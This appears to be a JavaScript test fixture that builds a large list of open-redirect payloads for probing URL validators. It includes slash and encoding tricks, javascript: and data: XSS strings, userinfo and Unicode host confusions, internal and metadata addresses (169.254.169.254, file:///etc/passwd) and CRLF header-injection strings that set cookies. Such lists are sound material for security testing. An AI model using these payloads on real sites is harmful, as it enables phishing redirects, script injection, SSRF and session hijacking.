// Open-redirect payloads: every way known to us of writing an address that a
// check takes for a path, or for a host of ours, and a browser does not.
//
// Each is a string of characters up to 255, or of Unicode where that is the
// point of it; `encoded` are the ways to write it into a query or a path.

export const EVIL = 'evil.example';

const HOST = 'callback.example';

const SLASHES = [
	'//', '///', '////', '/////', '/\\', '\\/', '\\\\', '/\\/', '/\\\\', '\\/\\/', '//\\', '///\\', '/\\/\\/', '\\\\\\', '\\',
	'//\\/', '/./\\', '/.//', '/..//', '/../\\', '/x/..//', '/x//../..//', './/', '..//', '.\\\\', '/;//', '//;@', '/;@', ';//', '?//', '/?//',
	':/', '://', ':///', ':\\\\', '/:/', '/%2e%2e//', '/%5c', '/%5c%5c', '/%2f', '%2f%2f', '/%2f%2f', '%5c%5c', '/%252f', '%252f%252f', '/%5c/',
	'/%09/', '/%0a/', '/%0d/', '/%00/', '/%20/', '/%2e/', '/%c0%af', '%c0%af%c0%af', '/.%2f', '/%e3%80%82', '/\u3000/', '//%09/', '//%5c',
];

/** Bytes that browsers drop, and checks do not. */
const IGNORED = [
	'\t', '\n', '\r', '\r\n', ' ', '\v', '\f', '\0', '\x01', '\x08', '\x0e', '\x1b', '\x1f', '\x7f', '\x85', '\xa0', '\u00ad', '\u200b', '\u2028',
	'\u2029', '\u202e', '\u3000', '\ufeff', '%09', '%0a', '%0d', '%0d%0a', '%20', '%00', '%0b', '%a0', '%e2%80%a8', '%E5%98%8A%E5%98%8D',
];

const SCHEMES = [
	'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java%0d%0ascript:alert(1)', '\x01javascript:alert(1)',
	' javascript:alert(1)', 'javascript://callback.example/%0aalert(1)', 'javascript:%61lert(1)', 'javascript&colon;alert(1)', 'javascript:/*x*/alert(1)',
	'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:,x', 'vbscript:msgbox(1)',
	'file:///etc/passwd', 'ftp://evil.example/', 'blob:https://evil.example/x', 'view-source:https://evil.example/', 'about:blank', 'ws://evil.example/',
	'intent://evil.example#Intent;scheme=https;end', 'mailto:x@evil.example', 'tel:1', 'x:y', 'http://evil.example', 'https://evil.example',
	'HTTPS://EVIL.EXAMPLE', 'https:evil.example', 'https:/evil.example', 'https:///evil.example', 'https:\\\\evil.example', 'https:\\evil.example',
	'https:/\\evil.example', 'http:evil.example', 'hTTps:\\/\\/evil.example', 'https:////evil.example', 'https&colon;//evil.example', 'https%3a//evil.example',
	'feed:https://evil.example', 'jar:https://evil.example!/', 'wyciwyg://evil.example', 'steam://evil.example',
];

const USERINFO = [
	`https://${HOST}@${EVIL}/`, `https://${HOST}:443@${EVIL}/`, `https://${HOST}:x@${EVIL}/`, `//${HOST}@${EVIL}/`, `https://${HOST}%2f@${EVIL}/`,
	`https://${HOST}%5c@${EVIL}/`, `https://${HOST}\\@${EVIL}/`, `https://${HOST}%00@${EVIL}/`, `https://${HOST}%23@${EVIL}/`, `https://${HOST}%3f@${EVIL}/`,
	`https://${HOST}&@${EVIL}/`, `https://@${EVIL}/`, `https://:@${EVIL}/`, `https://%20@${EVIL}/`, `https://${HOST}%40@${EVIL}/`, `https://x@${HOST}@${EVIL}/`,
	`https://${EVIL}#@${HOST}/`, `https://${EVIL}?@${HOST}/`, `https://${EVIL}/@${HOST}/`, `https://${EVIL}\\@${HOST}/`, `https://${EVIL};@${HOST}/`,
	`https://${EVIL}%2f@${HOST}/`, `https://${EVIL}:80#@${HOST}/`, `https://${EVIL}%0d%0a@${HOST}/`,
];

const HOSTS = [
	`//${HOST}.${EVIL}/`, `//${EVIL}/${HOST}`, `//${EVIL}?${HOST}`, `//${EVIL}#${HOST}`, `//${HOST}%00.${EVIL}/`, `//${HOST}%0d.${EVIL}/`, `//x${HOST}/`,
	`//${HOST}-${EVIL}/`, `//${EVIL}./`, `//${EVIL}:80/`, `//${EVIL}:/`, `//evil\u3002example/`, `//evil\uff0eexample/`, `//evil\uff61example/`,
	'//evil%e3%80%82example/', '//evil%ef%bc%8eexample/', '\uff0f\uff0fevil.example', '\u2215\u2215evil.example', '\u2044\u2044evil.example',
	'//\u24d4vil.example/', '//evil.ex\u00adample/', '//\uff45\uff56\uff49\uff4c.example/', '//0x7f000001/', '//2130706433/', '//0177.0.0.1/', '//127.1/',
	'//[::1]/', '//[::ffff:7f00:1]/', '//[::ffff:127.0.0.1]/', '//\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/', '//127.0.0.1:1/', '//localhost:1/', '//169.254.169.254/',
	'//xn--evil-9za.example/', '//evil.example%23/', '//evil.example%2f..%2f', '//evil.example/%2e%2e', '//evil.example/..;/', '/%68ttps://evil.example',
	'/https://evil.example', '/http:evil.example', '/redirect/https://evil.example', 'evil.example', 'evil.example/', 'www.evil.example', '.evil.example', '@evil.example',
];

/** Header injection: what would begin a header of its own. */
const INJECTIONS = [
	'/%0d%0aLocation:%20https://evil.example', '/%0d%0aX-Injected:%20yes', '/%0aX-Injected:%20yes', '/%0dX-Injected:%20yes', '/\r\nX-Injected: yes',
	'/\nX-Injected: yes', '/\rX-Injected: yes', '/%0d%0a%0d%0a<script>alert(1)</script>', '/%E5%98%8A%E5%98%8DX-Injected:%20yes', '/%u000d%u000aX-Injected:yes',
	'/%25%30%61X-Injected:yes', '/%250d%250aX-Injected:yes', '/x%0d%0aSet-Cookie:%20__Host-urlmode=evil', '\r\n\r\n<h1>evil</h1>', '/%c4%8d%c4%8aX-Injected:yes',
];

export const PAYLOADS = [...new Set([
	...SLASHES.flatMap((prefix) => [`${prefix}${EVIL}`, `${prefix}${EVIL}/%2e%2e`, `${prefix}${HOST}@${EVIL}`]),
	...IGNORED.flatMap((byte) => [
		`${byte}//${EVIL}`, `/${byte}/${EVIL}`, `${byte}https://${EVIL}`, `https:${byte}//${EVIL}`, `//${EVIL}${byte}`, `/${byte}\\${EVIL}`,
	]),
	...SCHEMES, ...USERINFO, ...HOSTS, ...INJECTIONS,
])];

/** As UTF-8 bytes, each a character: what can stand in a line of a request. */
export const bytesOf = (text) => Buffer.from(text).toString('latin1');

/** With nothing left that would end the request line or the header line that it stands in. */
export const onOneLine = (text) => bytesOf(text).replace(/[\r\n\0]/g, (byte) => encodeURIComponent(byte));

export const once = (text) => encodeURIComponent(text.toWellFormed());
